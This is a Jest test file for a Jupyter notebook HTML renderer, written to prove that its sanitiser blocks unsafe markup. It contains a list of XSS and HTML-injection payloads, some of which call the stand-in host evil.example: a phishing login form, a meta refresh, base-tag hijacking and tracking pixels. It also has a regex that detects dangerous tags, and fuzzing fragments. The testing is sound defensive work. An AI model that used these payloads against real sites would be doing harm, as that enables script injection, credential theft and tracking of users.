import { describe, expect, it } from '@jest/globals';
import { type Ipynb, parseIpynb } from '@alacard/core/sharing';
import fc from 'fast-check';
import { renderNotebook } from './notebook.ts';

const notebook = (cells: readonly object[]): Ipynb => {
  const parsed = parseIpynb(
    JSON.stringify({ nbformat: 4, nbformat_minor: 5, metadata: {}, cells }),
  );
  if (!parsed.ok) throw new Error(JSON.stringify(parsed.findings));
  return parsed.notebook;
};
const markdown = (source: string) => ({ cell_type: 'markdown', metadata: {}, source });
const output = (data: object) => ({
  cell_type: 'code',
  metadata: {},
  source: '',
  execution_count: 1,
  outputs: [{ output_type: 'display_data', metadata: {}, data }],
});

const PAYLOADS = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="/sign-in?token=x">x</a>',
  '[x](/sign-out) [x](sign-in) [x](?token=x) [x](../api/me) [x](#x) [x]: //evil.example',
  '<a href="\\\\evil.example">x</a><a href=" /dashboard">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<style>@import url(https://evil.example/x.css)</style>',
  '<div style="position:fixed;inset:0;background:url(https://evil.example/t.gif)">x</div>',
  '<form action="https://evil.example"><input name=p type=password><button>Login</button></form>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<img src="https://evil.example/track.gif?u=1">',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<a id=x name=y href=//evil.example target=_blank>z</a>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<video><source onerror="alert(1)"></video>',
  '<details open ontoggle=alert(1)>',
  '[x](javascript:alert(1))',
  '![x](https://evil.example/t.png)',
  '<https://evil.example/"onmouseover="alert(1)>',
];
/** What must never stand in a real tag. Escaped text and plain https links are harmless. */
const BAD = new RegExp(
  [
    '<\\s*(?:script|iframe|form|input|button|meta|base|style|object|svg|math|video|source|details|noscript|link)\\b',
    '<[^>]*\\s(?:on[a-z]+|style|srcdoc|id|name)\\s*=',
    '<a\\s[^>]*href\\s*=\\s*"(?!https:|mailto:)',
    '<img[^>]*src\\s*=\\s*"(?!data:image/(?:png|jpeg|gif|webp);base64,)',
  ].join('|'),
  'i',
);
const tags = (html: string): string => html.replace(/&lt;[\s\S]*?&gt;/g, '');

describe('renderNotebook', () => {
  it('draws tables that Markdown cells write as HTML, as the recipe is', () => {
    const html = renderNotebook(
      notebook([
        markdown(
          '## The recipe\n\n<table>\n<tr>\n<td align="center" width="20%"><b>Model</b><br><code>a/b</code></td>\n</tr>\n</table>\n\n> after',
        ),
      ]),
    );
    expect(html).toContain('<td align="center"><b>Model</b><br /><code>a/b</code></td>');
    expect(html).toContain('<blockquote>');
    expect(html).not.toContain('&lt;');
  });

  it.each(PAYLOADS)('lets nothing through: %s', (payload) => {
    const table = `<table><tr><td>${payload}</td></tr></table>`;
    for (const cell of [
      markdown(payload),
      markdown(`\`\`\`${payload}\n${payload}\n\`\`\``),
      { cell_type: 'raw', metadata: {}, source: payload },
      { cell_type: 'code', metadata: {}, source: payload, execution_count: null, outputs: [] },
      output({ 'text/html': table }),
      output({ 'text/html': payload, 'text/plain': payload }),
      output({ 'text/markdown': payload }),
      output({ 'image/svg+xml': payload, 'application/javascript': payload, [payload]: payload }),
      output({ 'image/png': payload, 'text/plain': payload }),
      {
        cell_type: 'code',
        metadata: {},
        source: '',
        execution_count: 1,
        outputs: [
          { output_type: 'stream', name: payload, text: payload },
          { output_type: 'error', ename: payload, evalue: payload, traceback: [payload] },
        ],
      },
    ]) {
      expect(tags(renderNotebook(notebook([cell])))).not.toMatch(BAD);
    }
  });

  it('draws what belongs into a notebook', () => {
    const html = renderNotebook(
      notebook([
        markdown('# Title\n\n**bold** [link](https://huggingface.co)'),
        { cell_type: 'code', metadata: {}, source: 'x = "a"', execution_count: 3, outputs: [] },
        output({ 'text/html': '<table class="dataframe evil"><tr><th>a</th></tr></table>' }),
        output({ 'image/png': 'iVBORw0KGgo=\n', 'text/plain': '<Figure>' }),
      ]),
    );
    expect(html).toContain('<h1>Title</h1>');
    expect(html).toContain('rel="noopener noreferrer nofollow ugc"');
    expect(html).toContain('<span class="tok-string">');
    expect(html).toContain('<table class="dataframe">');
    expect(html).toContain('src="data:image/png;base64,iVBORw0KGgo=" alt="&lt;Figure&gt;"');
    expect(html).toContain('[3]');
  });

  it('colours of terminals and overwritten lines are taken out', () => {
    const html = renderNotebook(
      notebook([
        {
          cell_type: 'code',
          metadata: {},
          source: '',
          execution_count: 1,
          outputs: [
            {
              output_type: 'stream',
              name: 'stdout',
              text: '  0%\r 50%\r100%\n\u001b[31mred\u001b[0m',
            },
          ],
        },
      ]),
    );
    expect(html).toContain('100%\nred</pre>');
    expect(html).not.toContain('50%');
  });

  it('keeps the lines of Windows, and what was written last', () => {
    const stream = (text: string) => ({
      ...output({}),
      outputs: [{ output_type: 'stream', name: 'stdout', text }],
    });
    const shown = (text: string) =>
      renderNotebook(notebook([stream(text)])).replace(
        /^[\s\S]*tabindex="0">|<\/pre>[\s\S]*$/g,
        '',
      );
    expect(shown('a\r\nb\r\n')).toBe('a\nb\n');
    expect(shown('1%\r2%\r3%\r')).toBe('3%');
    expect(shown('\r')).toBe('');
    expect(shown('one\u2028two\rthree')).toBe('three');
  });

  it('cuts what comes after its limits, however many outputs there are', () => {
    const nothing = { output_type: 'stream', name: 'stdout', text: '' };
    const empty = Array.from({ length: 7 }, () => ({
      ...output({}),
      outputs: Array<object>(18_000).fill(nothing),
    }));
    const html = renderNotebook(notebook(empty));
    expect(html.length).toBeLessThan(3_000_000);
    expect(html).toContain('not shown here');
  });

  it('stays within its limits on huge and deep notebooks', () => {
    const big = 'x'.repeat(90_000);
    const cells = Array.from({ length: 30 }, () => markdown(big));
    expect(renderNotebook(notebook(cells)).length).toBeLessThan(800_000);
    expect(renderNotebook(notebook(cells))).toContain('not shown here');
    for (const deep of [
      '['.repeat(20_000),
      '>'.repeat(5000),
      '<div>'.repeat(20_000),
      '*_'.repeat(20_000),
    ]) {
      renderNotebook(notebook([markdown(deep), output({ 'text/html': `<table>${deep}</table>` })]));
    }
  });

  it('never lets anything through', () => {
    const piece = fc.constantFrom(
      '<',
      '>',
      '"',
      "'",
      '/',
      'script',
      'img',
      ' src=',
      'onerror=',
      'svg',
      '<!--',
      '-->',
      '</',
      '&#',
      'a href=',
      'javascript:',
      '\u0000',
      '`',
      '](',
      '![',
    );
    const text = fc.array(piece, { maxLength: 30 }).map((parts) => parts.join(''));
    fc.assert(
      fc.property(text, (payload) => {
        const html = renderNotebook(
          notebook([markdown(payload), output({ 'text/html': `<table><td>${payload}` })]),
        );
        expect(tags(html)).not.toMatch(
          /<\s*(?:script|svg|iframe)|<[^>]*\son[a-z]+\s*=|<[^>]*href\s*=\s*"?javascript/i,
        );
      }),
      { numRuns: 500 },
    );
  });
});
